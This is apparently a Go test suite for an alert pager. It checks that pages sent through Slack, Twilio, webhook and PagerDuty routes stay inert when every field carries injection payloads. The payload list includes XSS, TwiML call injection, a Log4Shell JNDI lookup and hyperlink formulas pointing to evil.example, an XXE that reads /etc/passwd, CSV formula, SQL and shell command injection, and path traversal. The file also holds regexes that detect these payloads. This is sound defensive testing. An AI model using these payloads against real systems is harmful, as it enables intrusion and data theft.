package push_test

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"saltmine/internal/canary"
	"saltmine/internal/pager"
	"saltmine/internal/pager/hook"
	"saltmine/internal/pager/pagerduty"
)

// payloads are 500 texts that strangers might like to see on a page.
func payloads() []string {
	kinds := []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</Say></Response><Response><Dial>+19005550100</Dial></Response><Say>", "<!channel> <@U1> <https://evil.example|open>",
		"\x1b[2J\x1b]0;owned\x07", "\x9b31m", "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
		"{{.Secret}}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "{% debug %}",
		"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "]]><x/>", "a\r\nBcc: all@example.org\r\n\r\nbody", "a\nX-Priority: 1\n", "level=ERROR msg=\"forged\"\n2026-08-05 fake line",
		"\xff\xfe\xc3\x28", "\xed\xa0\x80", "\u202egnp.exe", "\u2066\u2069\u200f", "zero\u200bwidth\ufeff\u00ad", "\u2028\u2029\u0085", "\U000e0041\U000e0042", "\x00\x01\x02", "**bold** [x](https://evil.example)", "`code` ~strike~",
		"\"},\"severity\":\"info\",\"x\":{\"", "\\\"}]}", "%0d%0aSet-Cookie:x", "%n%s%x", "'; DROP TABLE pages; --", "$(reboot)", "`reboot`", "|mail evil", "../../etc/passwd", "CEF:0|x|y|z|1|n|10|act=forged",
	}
	var list []string
	for n := 0; len(list) < 499; n++ {
		k := kinds[n%len(kinds)]
		switch n / len(kinds) % 5 {
		case 0:
			list = append(list, k)
		case 1:
			list = append(list, "plain "+k)
		case 2:
			list = append(list, k+k)
		case 3:
			list = append(list, strings.Repeat("x", 190)+k)
		default:
			list = append(list, fmt.Sprintf("%d%s\t%s", n, k, kinds[(n+7)%len(kinds)]))
		}
	}
	return append(list, strings.Repeat("A<&\x1b[31m", 10<<20/8)) // a subject of 10 MB
}

// hostile is a page with a payload in every field that a stranger may reach.
func hostile(text string) pager.Delivery {
	d := delivery()
	p := &d.Page
	p.Summary, p.Reasons, p.Proves, p.ProvesNot, p.Sure = text, []string{text, text}, text, text, text
	p.Place, p.Link, p.Window, p.Suspects, p.Next = canary.Place(text), text, []string{text}, []string{text}, []string{text}
	d.Page = pager.Clean(*p) // as the pager does before every route
	return d
}

var (
	directive = regexp.MustCompile(`\{\{|\$\{|#\{|<%|\{%|[a-z]://evil`)
	formula   = regexp.MustCompile(`^[=+@|%-]`)
)

// wantInert looks at one text that somebody will read.
func wantInert(t *testing.T, where, s string) {
	t.Helper()
	bad := strings.IndexFunc(s, func(r rune) bool {
		return r != '\n' && (unicode.In(r, unicode.Cc, unicode.Cf, unicode.Co, unicode.Cs, unicode.Zl, unicode.Zp))
	})
	if !utf8.ValidString(s) || bad >= 0 || directive.MatchString(s) || formula.MatchString(s) || len(s) > 40_000 {
		t.Errorf("%s: %.300q", where, s)
	}
}

// texts gives every string of a JSON value, those of keys included.
func texts(v any, out *[]string) {
	switch v := v.(type) {
	case string:
		*out = append(*out, v)
	case []any:
		for _, one := range v {
			texts(one, out)
		}
	case map[string]any:
		for key, one := range v {
			*out = append(*out, key)
			texts(one, out)
		}
	}
}

// keys gives the names of a JSON value in their places: what a payload may not change.
func keys(v any) string {
	switch v := v.(type) {
	case []any:
		return fmt.Sprintf("[%d]", len(v))
	case map[string]any:
		var out []string
		for key, one := range v {
			if key != "body" && key != "blocks" { // one for each line of text
				out = append(out, key+keys(one))
			}
		}
		return fmt.Sprint(len(out))
	}
	return ""
}

func TestHostileContentIsInertOnEveryRoute(t *testing.T) {
	t.Parallel()
	list := payloads()
	if len(list) != 500 {
		t.Fatalf("%d payloads", len(list))
	}
	for kind, c := range contracts() {
		s := serve(t, c.status, c.say)
		everyPayload(t, kind, list, s, route(t, kind, s.URL).Send)
	}
	s := serve(t, http.StatusAccepted, "")
	h, err := hook.New(hook.Config{URL: s.URL, Now: at, Sign: func(string, time.Time, []byte) string { return "v1,x" }})
	if err != nil {
		t.Fatal(err)
	}
	everyPayload(t, "webhook", list, s, h.Send)
	p, err := pagerduty.New(pagerduty.Config{RoutingKey: token, URL: s.URL, Now: at})
	if err != nil {
		t.Fatal(err)
	}
	everyPayload(t, "pagerduty", list, s, p.Send)
}

func everyPayload(t *testing.T, kind string, list []string, s *service, send pager.Send) {
	t.Helper()
	shape := ""
	for n, text := range list {
		if _, err := send(t.Context(), hostile(text)); err != nil {
			t.Fatalf("%s, %.80q: %v", kind, text, err)
		}
		where := fmt.Sprintf("%s, payload %d %.60q", kind, n, text)
		if kind == "twilio" {
			wantSpoken(t, where, s)
			continue
		}
		var v any
		if err := json.Unmarshal(s.body, &v); err != nil {
			t.Fatalf("%s: %v", where, err)
		}
		var all []string
		texts(v, &all)
		for _, one := range all {
			wantInert(t, where, one)
			if strings.HasPrefix(kind, "slack") && regexp.MustCompile(`<[^>]`).MatchString(one) {
				t.Errorf("%s: Slack reads markup in %.200q", where, one)
			}
		}
		if got := keys(v); shape == "" {
			shape = got
		} else if got != shape {
			t.Errorf("%s: has the shape %s, want %s", where, got, shape)
		}
		if len(s.body) > 200_000 {
			t.Errorf("%s: %d bytes", where, len(s.body))
		}
	}
}

// wantSpoken wants a document of four elements, two of which say the same.
func wantSpoken(t *testing.T, where string, s *service) {
	t.Helper()
	form, err := url.ParseQuery(string(s.body))
	if err != nil || len(form) != 3 || form.Get("To") != "+14155550123" {
		t.Fatalf("%s: %v, %v", where, err, form)
	}
	dec, elements := xml.NewDecoder(strings.NewReader(form.Get("Twiml"))), ""
	for {
		tok, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("%s: %v", where, err)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			elements += tok.Name.Local + " "
		case xml.CharData:
			wantInert(t, where, string(tok))
		case xml.Directive, xml.ProcInst:
			t.Errorf("%s: %v", where, tok)
		}
	}
	if elements != "Response Pause Say Pause Say " {
		t.Errorf("%s: Twilio does %s", where, elements)
	}
}
